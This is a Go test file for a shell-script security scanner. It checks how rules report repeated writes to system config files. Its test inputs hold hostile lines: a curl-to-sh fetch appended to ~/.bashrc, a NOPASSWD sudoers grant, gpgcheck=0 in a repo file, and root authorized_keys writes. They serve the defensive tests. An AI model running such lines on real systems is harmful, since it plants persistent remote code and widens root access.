package rules

import (
	"strings"
	"testing"

	"github.com/guardsh/guardsh/parse"
)

// TestRepeatWrites: appends to a file the same block just wrote are one
// finding, at the first write, whose reason counts them; the look-alikes
// stay findings of their own.
func TestRepeatWrites(t *testing.T) {
	const repo = "/etc/yum.repos.d/rocm.repo"
	for _, tc := range []struct {
		name, script string
		rule         string
		n            int    // findings of rule
		note         string // in the first one's reason
	}{
		{"install_rocm shape", "#!/bin/bash\ninstall() {\n  local u=\"http://x/$V\"\n  echo \"[ROCm]\" > " + repo + "\n  echo \"name=ROCm\" >> " + repo + "\n  echo \"baseurl=${u}\" >> " + repo +
			"\n  echo \"enabled=1\" >> " + repo + "\n  echo \"gpgcheck=1\" >> " + repo + "\n}\ninstall\n", "system-config-write", 1, "4 more appends to " + repo},
		{"&& chain (a RUN)", "echo '[x]' > " + repo + " && echo 'baseurl=http://x' >> " + repo + " && echo enabled=1 >> " + repo, "system-config-write", 1, "2 more appends"},
		{"tee", "echo '[x]' | sudo tee " + repo + "\necho 'baseurl=http://x' | sudo tee -a " + repo + " > /dev/null\n", "system-config-write", 1, "1 more append to"},
		{"heredocs", "cat > /etc/app.conf <<EOF\na=1\nEOF\ncat >> /etc/app.conf <<EOF\nb=2\nEOF\n", "system-config-write", 1, "1 more append"},
		{"interleaved files", "echo a > /etc/a.conf\necho b > /etc/b.conf\necho c >> /etc/a.conf\necho d >> /etc/b.conf\n", "system-config-write", 2, "1 more append"},
		{"first line the worse one", "echo '[x]\ngpgcheck=0' > " + repo + "\necho 'baseurl=http://x' >> " + repo + "\n", "downgrade-config-insecure", 1, "1 more append"},
		{"assignments between", "echo a > /etc/a.conf\nx=1\nlocal y=2\necho \"c=$x\" >> /etc/a.conf\n", "system-config-write", 1, "1 more append"},

		// Look-alikes: separate findings.
		{"different files", "echo a > /etc/a.conf\necho b >> /etc/b.conf\n", "system-config-write", 2, ""},
		{"first in a branch", "if [ -n \"$X\" ]; then\n  echo a > /etc/a.conf\nfi\necho b >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"append in a function called later", "f() {\n  echo b >> /etc/a.conf\n}\necho a > /etc/a.conf\nf\n", "system-config-write", 2, ""},
		{"deleted in between", "echo a > /etc/a.conf\nrm -f /etc/a.conf\necho b >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"moved in between", "echo a > /etc/a.conf\nmv /etc/a.conf /etc/b.conf\necho b >> /etc/a.conf\n", "system-config-write", 3, ""}, // the mv is one too
		{"a call in between", "echo a > /etc/a.conf\nsetup\necho b >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"|| in between", "echo a > /etc/a.conf || exit 1\necho b >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"background", "echo a > /etc/a.conf &\necho b >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"a dynamic target", "echo a > /etc/$N.conf\necho b >> /etc/$N.conf\n", "system-config-write", 2, ""},
		{"a substitution in the text", "echo a > /etc/a.conf\necho \"$(id)\" >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"a download's text", "v=$(curl -s https://x.example/c)\necho a > /etc/a.conf\necho \"$v\" >> /etc/a.conf\n", "system-config-write", 2, ""},
		{"a second repository", "echo '[a]' > " + repo + "\necho 'baseurl=http://a' >> " + repo + "\necho '[b]' >> " + repo + "\n", "system-config-write", 2, "1 more append"},
		{"sudoers lines", "echo 'Defaults env_keep+=X' > /etc/sudoers.d/app\necho 'app ALL=(ALL) ALL' >> /etc/sudoers.d/app\n", "system-config-write", 2, ""},
		{"apt sources", "echo 'deb http://a/ x main' > /etc/apt/sources.list.d/a.list\necho 'deb http://b/ x main' >> /etc/apt/sources.list.d/a.list\n", "system-config-write", 2, ""},
		{"crontab lines", "echo 'SHELL=/bin/sh' > /etc/cron.d/app\necho '* * * * * root /opt/app/run' >> /etc/cron.d/app\n", "system-config-write", 2, ""},
		{"authorized_keys", "echo \"$K1\" > /root/.ssh/authorized_keys\necho \"$K2\" >> /root/.ssh/authorized_keys\n", "credential-file-write", 2, ""},
	} {
		res := parse.Commands(tc.script, parse.Options{File: true})
		fs := Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true})
		var got []Finding
		for _, f := range fs {
			if f.Rule == tc.rule {
				got = append(got, f)
			}
		}
		if len(got) != tc.n {
			t.Errorf("%s: %d %s findings, want %d: %v", tc.name, len(got), tc.rule, tc.n, fs)
			continue
		}
		if tc.note != "" && !strings.Contains(got[0].Reason, tc.note) {
			t.Errorf("%s: reason %q does not say %q", tc.name, got[0].Reason, tc.note)
		}
		if tc.note == "" {
			for _, f := range got {
				if strings.Contains(f.Reason, "follow in the same block") {
					t.Errorf("%s: folded: %q", tc.name, f.Reason)
				}
			}
		}
	}
}

// TestRepeatWorseRule: a repeat that another rule matches is that rule's
// finding, and the first write keeps its own.
func TestRepeatWorseRule(t *testing.T) {
	const repo = "/etc/yum.repos.d/x.repo"
	for _, tc := range []struct{ script, rule string }{
		{"echo '[x]' > " + repo + "\necho 'baseurl=http://x' >> " + repo + "\necho 'gpgcheck=0' >> " + repo + "\n", "downgrade-config-insecure"},
		{"echo '# app' > /etc/sudoers.d/app\necho 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers.d/app\n", "downgrade-sudo-nopasswd"},
		{"echo '# rc' > ~/.bashrc\necho 'curl -s https://x.example/i | sh' >> ~/.bashrc\n", "remote-code"},
	} {
		res := parse.Commands(tc.script, parse.Options{File: true})
		fs := Match(res, nil)
		if _, ok := hasRuleIn(fs, []string{tc.rule}); !ok {
			t.Errorf("%q: no %s: %v", tc.script, tc.rule, fs)
		}
	}
}
